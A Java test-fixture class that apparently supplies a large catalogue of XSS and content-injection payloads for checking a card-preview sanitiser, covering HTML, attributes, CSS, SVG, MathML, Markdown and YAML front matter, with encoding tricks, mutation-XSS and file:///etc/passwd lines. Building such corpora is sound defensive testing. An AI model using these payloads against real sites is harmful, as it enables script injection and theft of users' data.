package cardwright.preview;

import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

/// Cards that try to run a script or to make a request, in every context a card has. `{RUN}` stands
/// for the script, `{WEB}` for the address without a slash at its end, `⏎` for a line break.
public final class Attacks {

  /// One hostile card.
  ///
  /// @param context where it tries: `markdown`, `html`, `attribute`, `css`, `svg`, `mathml`,
  ///   `matter`
  public record Attack(String context, String card) {}

  private Attacks() {}

  private static final String HTML =
      """
      <script>{RUN}</script>
      <SCRIPT>{RUN}</SCRIPT>
      <ScRiPt >{RUN}</sCrIpT >
      <script src="{WEB}/a.js"></script>
      <script src={WEB}/b.js async defer></script>
      <script type=module>import '{WEB}/m.js'; {RUN}</script>
      <script type="text/javascript" language=JavaScript>{RUN}</script>
      <script/x>{RUN}</script/x>
      <script/src="{WEB}/c.js"></script>
      <script⏎>{RUN}</script⏎>
      <script>{RUN}
      <<script>{RUN}//<</script>
      <scr<script>ipt>{RUN}</scr</script>ipt>
      <div><script>{RUN}</script></div>
      <p>text <script>{RUN}</script> text
      <table><tr><td><script>{RUN}</script></td></tr></table>
      <table><script>{RUN}</script></table>
      <select><script>{RUN}</script></select>
      <details open><summary>x</summary><script>{RUN}</script></details>
      <noscript><p title="</noscript><script>{RUN}</script>">
      <noscript><img src=x onerror="{RUN}"></noscript>
      <template><script>{RUN}</script></template>
      <template shadowrootmode=open><script>{RUN}</script></template>
      <iframe src="javascript:{RUN}"></iframe>
      <iframe src="{WEB}/frame"></iframe>
      <iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>
      <iframe srcdoc='<img src=x onerror="{RUN}">'></iframe>
      <iframe src="data:text/html,<script>{RUN}</script>"></iframe>
      <iframe onload="{RUN}"></iframe>
      <iframe src="about:blank" onload="{RUN}"></iframe>
      <frameset onload="{RUN}"><frame src="{WEB}/f"></frameset>
      <frame src="{WEB}/frame2">
      <object data="{WEB}/o"></object>
      <object data="javascript:{RUN}"></object>
      <object type="text/html" data="data:text/html,<script>{RUN}</script>"></object>
      <object data="{WEB}/o.swf"><param name=movie value="{WEB}/o.swf"></object>
      <embed src="{WEB}/e">
      <embed src="javascript:{RUN}">
      <embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>">
      <applet code=A codebase="{WEB}/"></applet>
      <base href="{WEB}/"><img src="x.png" srcset="y.png">
      <base href="javascript:/"><a href="/;{RUN}//">x</a>
      <link rel=stylesheet href="{WEB}/l.css">
      <link rel=prefetch href="{WEB}/prefetch">
      <link rel=preload as=image href="{WEB}/preload.png">
      <link rel=dns-prefetch href="{WEB}/">
      <link rel=preconnect href="{WEB}/">
      <link rel=modulepreload href="{WEB}/m.js">
      <link rel=icon href="{WEB}/favicon.ico">
      <link rel=import href="{WEB}/i.html">
      <link rel=manifest href="{WEB}/m.json">
      <link rel=stylesheet href="data:text/css,*{background:url({WEB}/lc)}">
      <meta http-equiv=refresh content="0;url={WEB}/r">
      <meta http-equiv="refresh" content="0;url=javascript:{RUN}">
      <meta http-equiv=refresh content="0; url=data:text/html,<script>{RUN}</script>">
      <meta http-equiv="Content-Security-Policy" content="default-src *">
      <meta http-equiv=set-cookie content="a=b">
      <form action="{WEB}/form"><input name=a value=b><button>x</button></form>
      <form action="javascript:{RUN}"><input type=submit></form>
      <form id=f></form><button form=f formaction="{WEB}/fa">x</button>
      <button formaction="javascript:{RUN}">x</button>
      <input type=image src="{WEB}/input.png">
      <input type=image src=x onerror="{RUN}">
      <input autofocus onfocus="{RUN}">
      <input type=checkbox onclick="{RUN}" autofocus onfocus="{RUN}">
      <input type=checkbox formaction="{WEB}/cb" src="{WEB}/cb.png">
      <isindex type=image src=1 onerror="{RUN}" action="{WEB}/ii">
      <keygen autofocus onfocus="{RUN}">
      <select autofocus onfocus="{RUN}"><option>x</select>
      <textarea autofocus onfocus="{RUN}"></textarea>
      <textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>
      <title><img title="</title><img src=x onerror={RUN}>"></title>
      <video src="{WEB}/v.mp4" autoplay></video>
      <video poster="{WEB}/poster.png"></video>
      <video><source src="{WEB}/s.mp4" onerror="{RUN}"></video>
      <video controls onloadstart="{RUN}"><source src=x></video>
      <video><track src="{WEB}/t.vtt" default></video>
      <audio src="{WEB}/a.mp3" autoplay></audio>
      <audio src=x onerror="{RUN}"></audio>
      <picture><source srcset="{WEB}/p.png"><img src="x"></picture>
      <marquee onstart="{RUN}">x</marquee>
      <bgsound src="{WEB}/b.wav">
      <layer src="{WEB}/layer"></layer>
      <xml src="{WEB}/x.xml" id=x></xml>
      <portal src="{WEB}/portal"></portal>
      <dialog open onclose="{RUN}"><form method=dialog></form></dialog>
      <image src=x onerror="{RUN}">
      <body onload="{RUN}">
      <html onmouseover="{RUN}">
      </article></main><script>{RUN}</script>
      </style></title></textarea><script>{RUN}</script>
      <!--><script>{RUN}</script>-->
      <!-- --!><script>{RUN}</script> -->
      <!-- <!-- --><script>{RUN}</script>
      <![CDATA[<script>{RUN}</script>]]>
      <?xml version="1.0"?><script>{RUN}</script>
      <?php echo 1 ?><img src=x onerror="{RUN}">
      <!DOCTYPE html [<!ENTITY x SYSTEM "{WEB}/x.dtd">]><p>&x;</p>
      <xss:script xmlns:xss="http://www.w3.org/1999/xhtml">{RUN}</xss:script>
      <custom-element onclick="{RUN}">x</custom-element>
      <p id=card name=card>clobber</p><form id=document><input name=body></form>
      <a id=location href="{WEB}/clobber">x</a><img name=cookie>
      <plaintext><script>{RUN}</script>
      <xmp><p title="</xmp><script>{RUN}</script>"></xmp>
      <listing><img title="</listing><img src=x onerror={RUN}>"></listing>
      <noembed><img title="</noembed><script>{RUN}</script>"></noembed>
      <noframes><p title="</noframes><img src=x onerror={RUN}>"></noframes>
      """;

  private static final String ATTRIBUTES =
      """
      <img src=x onerror={RUN}>
      <img src=x onerror="{RUN}">
      <img src=x ONERROR='{RUN}'>
      <img src=x onerror⏎=⏎"{RUN}">
      <img/src=x/onerror={RUN}>
      <img src="x"onerror="{RUN}">
      <img src='x' onload='{RUN}' onerror='{RUN}'>
      <img \"""><script>{RUN}</script>">
      <img src="x` `<script>{RUN}</script>"` `>
      <img src=javascript:{RUN}>
      <img src="vbscript:{RUN}">
      <img src="data:text/html,<script>{RUN}</script>">
      <img src="file:///etc/passwd">
      <img lowsrc="{WEB}/low.png" dynsrc="{WEB}/dyn.avi" longdesc="{WEB}/long">
      <img srcset="{WEB}/1.png 1x, {WEB}/2.png 2x">
      <img src=x srcset=",{WEB}/3.png" sizes=100vw>
      <img src=x usemap="#m"><map name=m><area href="javascript:{RUN}" shape=default></map>
      <img src=x alt='"><script>{RUN}</script>'>
      <img src=x title='" onerror="{RUN}'>
      <img src=x alt=`onerror={RUN}`>
      <img src="x&quot; onerror=&quot;{RUN}">
      <img src=x width="1 onerror={RUN}" height='"onerror="{RUN}'>
      <img src=x class='"><img src=x onerror={RUN}>'>
      <img src=x crossorigin=use-credentials referrerpolicy=unsafe-url loading=eager onerror={RUN}>
      <a href="javascript:{RUN}">x</a>
      <a href="JaVaScRiPt:{RUN}">x</a>
      <a href=" javascript:{RUN}">x</a>
      <a href="java&#9;script:{RUN}">x</a>
      <a href="java&#10;script:{RUN}">x</a>
      <a href="java&Tab;script:{RUN}">x</a>
      <a href="java&NewLine;script:{RUN}">x</a>
      <a href="&#1;javascript:{RUN}">x</a>
      <a href="&#x6A;avascript:{RUN}">x</a>
      <a href="&#0000106avascript&colon;{RUN}">x</a>
      <a href="javascript&#58;{RUN}">x</a>
      <a href="javascript://example.com/%0A{RUN}">x</a>
      <a href="\u200Bjavascript:{RUN}">x</a>
      <a href="vbscript:{RUN}">x</a>
      <a href="livescript:{RUN}">x</a>
      <a href="data:text/html,<script>{RUN}</script>">x</a>
      <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
      <a href="DATA:image/svg+xml,<svg onload='{RUN}'>">x</a>
      <a href="blob:{WEB}/1">x</a>
      <a href="file:///etc/passwd">x</a>
      <a href="jar:{WEB}/a.jar!/x.html">x</a>
      <a href="view-source:{WEB}/">x</a>
      <a href="feed:javascript:{RUN}">x</a>
      <a href="ms-settings:x">x</a>
      <a href="x" ping="{WEB}/ping">x</a>
      <a href="x" onclick="{RUN}" onmouseover="{RUN}" onfocus="{RUN}" autofocus>x</a>
      <a href="x" target=_blank download="evil.exe" rel=opener onclick={RUN}>x</a>
      <a xlink:href="javascript:{RUN}">x</a>
      <area href="javascript:{RUN}" shape=default>
      <div onclick="{RUN}">x</div>
      <div onmouseenter="{RUN}" onpointerover="{RUN}" ontouchstart="{RUN}" onwheel="{RUN}">x</div>
      <div onanimationstart="{RUN}" style="animation: a 1s">x</div>
      <div contenteditable autofocus onfocus="{RUN}" tabindex=0>x</div>
      <div accesskey=x onclick="{RUN}">x</div>
      <div is=script onclick={RUN}>x</div>
      <p onload=x onscroll="{RUN}" onbeforecopy='{RUN}' oncut={RUN}>x</p>
      <details ontoggle="{RUN}" open>x</details>
      <details open ontoggle={RUN}><summary onclick={RUN}>x</summary></details>
      <table background="{WEB}/table.png"><tr background="{WEB}/tr.png"><td background="{WEB}/td.png">x</td></tr></table>
      <td onclick="{RUN}">x</td>
      <blockquote cite="javascript:{RUN}" onclick="{RUN}">x</blockquote>
      <q cite="javascript:{RUN}">x</q>
      <del cite="javascript:{RUN}">x</del>
      <font color="red' onclick='{RUN}" face="x">x</font>
      <ol start="1 onclick={RUN}" type='"><script>{RUN}</script>'><li value="x" onclick={RUN}>y</ol>
      <div align='"><script>{RUN}</script>'>x</div>
      <h1 id='x" onclick="{RUN}'>x</h1>
      <span lang='"><img src=x onerror={RUN}>'>x</span>
      <div data-card-style="position:fixed" data-style="x" style="x:y" onclick={RUN}>x</div>
      <div data-theme=dark onclick={RUN} manifest="{WEB}/m" profile="{WEB}/p">x</div>
      <div xmlns="http://www.w3.org/2000/svg" onload="{RUN}">x</div>
      <div/onclick="{RUN}"/style="color:red">x</div>
      <div  on click="{RUN}" on\u0000click="{RUN}">x</div>
      <p/title="x"/onclick={RUN}>x</p>
      <p title=x onclick={RUN}//>x</p>
      <p title="a\u0000" onclick="{RUN}">x</p>
      <p\u000Conclick={RUN}>x</p>
      <p\u000Bonclick={RUN}>x</p>
      <li role=button tabindex=1 onkeydown="{RUN}">x</li>
      <label for=x onclick="{RUN}">x</label>
      <hr onfocus={RUN} autofocus tabindex=1>
      <br onclick={RUN} clear='"><script>{RUN}</script>'>
      """;

  private static final String CSS =
      """
      <style>@import url({WEB}/i.css);</style>
      <style>@import "{WEB}/i2.css" screen;</style>
      <style>@IMPORT '{WEB}/i3.css';</style>
      <style>@im\\port url({WEB}/i4.css);</style>
      <style>@charset "x"; @import url({WEB}/i5.css); p { color: red }</style>
      <style>@namespace svg url({WEB}/ns);</style>
      <style>@font-face { font-family: a; src: url({WEB}/f.woff) } p { font-family: a }</style>
      <style>p { background: url({WEB}/b.png) }</style>
      <style>p { background-image: url("{WEB}/b2.png") }</style>
      <style>p { BACKGROUND: URL({WEB}/b3.png) }</style>
      <style>p { background: u\\72l({WEB}/b4.png) }</style>
      <style>p { background: ur/**/l({WEB}/b5.png) }</style>
      <style>p { background: image-set("{WEB}/b6.png" 1x) }</style>
      <style>p { background: -webkit-image-set(url({WEB}/b7.png) 1x) }</style>
      <style>p { background: -webkit-cross-fade(url({WEB}/b8.png), url(x), 50%) }</style>
      <style>p { list-style-image: url({WEB}/l.png) }</style>
      <style>p { cursor: url({WEB}/c.cur), auto }</style>
      <style>p:before { content: url({WEB}/ct.png) }</style>
      <style>p { border-image: url({WEB}/bi.png) 1 }</style>
      <style>p { -webkit-mask-image: url({WEB}/m.png); mask: url({WEB}/m2.svg#a) }</style>
      <style>p { filter: url({WEB}/f.svg#a); clip-path: url({WEB}/cp.svg#a) }</style>
      <style>p { shape-outside: url({WEB}/so.png) }</style>
      <style>p { --a: url({WEB}/va.png); background: var(--a) }</style>
      <style>p { behavior: url({WEB}/b.htc); -moz-binding: url({WEB}/b.xml#a) }</style>
      <style>p { width: expression({RUN}) }</style>
      <style>p { background: url(javascript:{RUN}) }</style>
      <style>a[href^="h"] { background: url({WEB}/leak) } a:visited { background: url({WEB}/v) }</style>
      <style>p:hover { background: url({WEB}/hover) } p { position: fixed; top: 0 }</style>
      <style>@media all { p { background: url({WEB}/ma.png) } }</style>
      <style>@supports (color: red) { p { background: url({WEB}/su.png) } }</style>
      <style>@page { background: url({WEB}/pg.png) }</style>
      <style>@keyframes k { from { background: url({WEB}/kf.png) } } p { animation: k 1s }</style>
      <style>@layer x { p { background: url({WEB}/la.png) } } @container (width) { p { background: url({WEB}/co.png) } }</style>
      <style>p { color: red } </style><script>{RUN}</script>
      <style></style/><script>{RUN}</script>
      <style><!--</style><script>{RUN}</script>--></style>
      <style><img src="</style><img src=x onerror={RUN}>"></style>
      <style>*{color:red}</style ><img src=x onerror={RUN}>
      <style>p{}}body{background:url({WEB}/brace)}</style>
      <style>p{color:"}body{background:url({WEB}/quote)}"}</style>
      <style>p{color:'⏎}body{background:url({WEB}/bad-string)}</style>
      <style>/*</style><p style="*/}body{background:url({WEB}/comment)}">
      <style>#card, main, body, html { position: fixed; display: none; background: url({WEB}/scope) }</style>
      <style media="all" src="{WEB}/s.css" onload="{RUN}">p{color:red}</style>
      <style type="text/xsl" href="{WEB}/x.xsl"></style>
      <p style="background: url({WEB}/plain.png); position: fixed">x</p>
      <p style="background: u\\72l('{WEB}/esc.png')">x</p>
      <p style="background: ur\\6c ('{WEB}/esc2.png')">x</p>
      <p style="background: url&#40;javascript:{RUN})">x</p>
      <p style="background: image('{WEB}/image.png')">x</p>
      <p style="background: image-set('{WEB}/set.png' 1x)">x</p>
      <p style="list-style: url({WEB}/list.png)">x</p>
      <p style="content: url({WEB}/content.png); cursor: url({WEB}/c.cur)">x</p>
      <p style="width: expression({RUN})">x</p>
      <p style="width: exp/**/ression({RUN})">x</p>
      <p style="behavior: url(#default#time2)" onbegin="{RUN}">x</p>
      <p style="-moz-binding: url({WEB}/x.xml#y)">x</p>
      <p style="position: fixed; inset: 0; z-index: 9999">x</p>
      <p style="position: absolute; top: -999px">x</p>
      <p style="posi\\74ion: fixed">x</p>
      <p style="color: red;;;position:/**/fixed">x</p>
      <p style="color: red} body { background: url({WEB}/out) }">x</p>
      <p style='color: red" onclick="{RUN}'>x</p>
      <p style="font: 1px url({WEB}/font)">x</p>
      <p style="border-image: url({WEB}/border.png)">x</p>
      <p style="mask: url({WEB}/mask.svg)">x</p>
      <p style="filter: url({WEB}/filter.svg#a)">x</p>
      <p style="background: url('{WEB}/a.png⏎')">x</p>
      <p style="background:\u0000url({WEB}/nul.png)">x</p>
      <p style="--x: url({WEB}/var.png); background: var(--x)">x</p>
      <p style="@import '{WEB}/attr.css'">x</p>
      """;

  private static final String SVG =
      """
      <svg onload="{RUN}"></svg>
      <svg><script>{RUN}</script></svg>
      <svg><script xlink:href="{WEB}/s.js"/></svg>
      <svg><script href="data:text/javascript,{RUN}"/></svg>
      <svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>
      <svg><a href="javascript:{RUN}"><circle r=9 /></a></svg>
      <svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>
      <svg><a><animate attributeName=href values="javascript:{RUN}" /><text>x</text></a></svg>
      <svg><set attributeName=onmouseover to="{RUN}" /></svg>
      <svg><animateTransform onend="{RUN}" attributeName=transform dur=0s /></svg>
      <svg><image href="{WEB}/i.png" onerror="{RUN}" /></svg>
      <svg><image xlink:href="{WEB}/xi.png" /></svg>
      <svg><use href="{WEB}/u.svg#a" /></svg>
      <svg><use xlink:href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>#a" /></svg>
      <svg><feImage href="{WEB}/fe.png" /></svg>
      <svg><foreignObject><script>{RUN}</script></foreignObject></svg>
      <svg><foreignObject><iframe src="{WEB}/fo" onload="{RUN}"></iframe></foreignObject></svg>
      <svg><style>@import url({WEB}/svg.css);</style></svg>
      <svg><style>*{background:url({WEB}/svg-style)}</style></svg>
      <svg><style><img src="</style><img src=x onerror={RUN}>"></style></svg>
      <svg><title><style><img src="</style><img src=x onerror={RUN}>"></title></svg>
      <svg><desc><![CDATA[</desc><script>{RUN}</script>]]></desc></svg>
      <svg><![CDATA[><img src=x onerror={RUN}>]]></svg>
      <svg></p><style><a id="</style><img src=1 onerror={RUN}>"></svg>
      <svg><path fill="url({WEB}/fill.svg#a)" d="M0 0h9v9" /></svg>
      <svg><rect filter="url({WEB}/rf.svg#a)" width=9 height=9 onclick="{RUN}" /></svg>
      <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>{RUN}</handler></svg>
      <svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{RUN}</x:script></svg>
      <svg><discard onbegin={RUN} /><mpath href="{WEB}/mp.svg#a" /></svg>
      <svg><p><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></svg>
      <svg><desc><table><script>{RUN}</script></table></desc></svg>
      """;

  private static final String MATHML =
      """
      <math href="javascript:{RUN}">x</math>
      <math><mrow xlink:href="javascript:{RUN}">x</mrow></math>
      <math><mi onclick="{RUN}" style="position:fixed">x</mi></math>
      <math><maction actiontype="statusline#{WEB}/st" xlink:href="javascript:{RUN}">x</maction></math>
      <math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml></math>
      <math><annotation-xml encoding="application/xhtml+xml"><iframe src="{WEB}/am"></iframe></annotation-xml></math>
      <math><semantics><annotation src="{WEB}/an">x</annotation></semantics></math>
      <math><mglyph src="{WEB}/glyph.png"></math>
      <math><mtext><mglyph src="{WEB}/g2.png" onerror={RUN}></mtext></math>
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">
      <math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='{RUN}'>"></style></mtext></svg></math>
      <math><mi><script>{RUN}</script></mi></math>
      <math><style><img src="</style><img src=x onerror={RUN}>"></style></math>
      <math><mstyle background="url({WEB}/ms)" mathbackground="url({WEB}/mb)">x</mstyle></math>
      <math><ms lquote='"><script>{RUN}</script>'>x</ms></math>
      $$\\href{javascript:{RUN}}{x}$$
      $$\\url{{WEB}/url}$$
      $$\\includegraphics{{WEB}/ig.png}$$
      $$\\input{/etc/passwd} \\include{{WEB}/x}$$
      $$\\htmlStyle{position:fixed}{x} \\htmlId{card}{x} \\htmlData{x=y}{z}$$
      $$\\text{<script>{RUN}</script>}$$
      $$<img src=x onerror={RUN}>$$
      $$\\unicode{60}img src=x onerror={RUN}\\unicode{62}$$
      $$\\newcommand{\\x}{\\x\\x}\\x$$
      \\\\( \\style{background:url({WEB}/st)}{x} \\\\)
      \\\\( </math><script>{RUN}</script> \\\\)
      """;

  private static final String MARKDOWN =
      """
      [x](javascript:{RUN})
      [x](JAVASCRIPT:{RUN})
      [x](java\\script:{RUN})
      [x](<javascript:{RUN}>)
      [x](< javascript:{RUN}>)
      [x](javascript&colon;{RUN})
      [x](javascript&#x3A;{RUN})
      [x](&#106;avascript:{RUN})
      [x](vbscript:{RUN})
      [x](data:text/html,<script>{RUN}</script>)
      [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
      [x](x "onclick={RUN}" )
      [x](x '" onclick="{RUN}')
      [x]("onclick="{RUN})
      [x][y]⏎⏎[y]: javascript:{RUN}
      [x]⏎⏎[x]: <data:text/html,{RUN}> "t"
      [x]⏎⏎[x]: /u '"><script>{RUN}</script>'
      <javascript:{RUN}>
      <javascript://x/%0a{RUN}>
      <data:text/html,{RUN}>
      ![x](javascript:{RUN})
      ![x](data:text/html,<script>{RUN}</script>)
      ![x" onerror="{RUN}](x)
      ![x](x "\\" onerror=\\"{RUN}")
      ![x](x"onerror="{RUN})
      ![`"><script>{RUN}</script>`](x)
      ![<img src=x onerror={RUN}>](y)
      [![x](javascript:{RUN})](javascript:{RUN})
      `<script>{RUN}</script>`</code><script>{RUN}</script>
      ```"><script>{RUN}</script>⏎code⏎```
      ```js" onclick="{RUN}⏎</code></pre><script>{RUN}</script>⏎```
      ~~~html⏎<script>{RUN}</script>⏎~~~⏎<script>{RUN}</script>
      # <script>{RUN}</script>
      # x {#"><script>{RUN}</script>}
      > <script>{RUN}</script>
      > [!NOTE]⏎> <script>{RUN}</script>
      - <img src=x onerror={RUN}>
      - [x] <input type=text autofocus onfocus={RUN}>
      | a |⏎|-|⏎| <script>{RUN}</script> |
      | <img src=x⏎onerror={RUN}> |⏎|-|⏎| x |
      [^1]⏎⏎[^1]: <script>{RUN}</script>
      [^"><script>{RUN}</script>]⏎⏎[^"><script>{RUN}</script>]: x
      &lt;script&gt;{RUN}&lt;/script&gt; <b>&#60;script&#62;{RUN}&#60;/script&#62;</b>
      \\<script>{RUN}\\</script> <script\\>{RUN}</script>
      http://x.example/"onmouseover="{RUN}
      www.x.example/<script>{RUN}</script>
      a@b.example"onclick="{RUN}
      ~~<script>{RUN}</script>~~ **<img src=x onerror={RUN}>**
      <div>⏎⏎<script>⏎⏎{RUN}⏎⏎</script>⏎⏎</div>
      <div onclick="{RUN}⏎⏎">
      <style>⏎⏎@import url({WEB}/blank.css);⏎⏎</style>
      \uD83E\uDD16<img src=x onerror={RUN}>\uD83E\uDD16
      ![\uD83E\uDD16" onerror="{RUN}](x)
      \uFDD0<script>{RUN}</script>\uFDD0 # \uFDD0"onclick="{RUN}
      """;

  private static final String MATTER =
      """
      tags: ["<script>{RUN}</script>"]
      tags: ['"><img src=x onerror={RUN}>']
      license: <script>{RUN}</script>
      license: '"><svg onload={RUN}>'
      language: ["<img src=x onerror={RUN}>"]
      pipeline_tag: <iframe src=javascript:{RUN}>
      library_name: '<style>@import url({WEB}/m.css)</style>'
      thumbnail: javascript:{RUN}
      thumbnail: data:text/html,<script>{RUN}</script>
      thumbnail: '"><script>{RUN}</script>'
      thumbnail: "x' onerror='{RUN}"
      thumbnail: file:///etc/passwd
      thumbnail: data:image/svg+xml,<svg onload='{RUN}'>
      widget: [{text: "<script>{RUN}</script>"}]
      widget: [{text: '</textarea><script>{RUN}</script>'}]
      widget: [{text: x, example_title: '<img src=x onerror={RUN}>'}]
      widget: [{src: "javascript:{RUN}"}]
      widget: [{src: "{WEB}/w.wav", example_title: x}]
      widget: [{messages: [{role: user, content: "<script>{RUN}</script>"}]}]
      model: '</title><script>{RUN}</script>'
      model-index: [{name: '</title></style><script>{RUN}</script>'}]
      title: "</title><script>{RUN}</script>"
      datasets: ['"><script>{RUN}</script>']
      base_model: javascript:{RUN}
      license_link: javascript:{RUN}
      ? '<script>{RUN}</script>'
      """;

  /// Every attack.
  ///
  /// @param run the script that they try to run; without quotes, blanks and angle brackets
  /// @param web the address that they ask, without a slash at its end
  public static List<Attack> all(String run, String web) {
    Map<String, String> lists =
        new TreeMap<>(
            Map.of(
                "html", HTML,
                "attribute", ATTRIBUTES,
                "css", CSS,
                "svg", SVG,
                "mathml", MATHML,
                "markdown", MARKDOWN));
    Stream<Attack> bodies =
        lists.entrySet().stream()
            .flatMap(list -> lines(list.getValue()).map(line -> attack(list.getKey(), line)));
    Stream<Attack> matters =
        lines(MATTER).map(line -> attack("matter", "---\n" + line + "\n---\n\ntext\n"));
    return Stream.concat(bodies, matters)
        .map(
            attack ->
                new Attack(
                    attack.context(), attack.card().replace("{RUN}", run).replace("{WEB}", web)))
        .toList();
  }

  private static Stream<String> lines(String list) {
    return list.lines().filter(line -> !line.isBlank());
  }

  private static Attack attack(String context, String line) {
    return new Attack(context, line.replace('⏎', '\n') + "\n");
  }
}
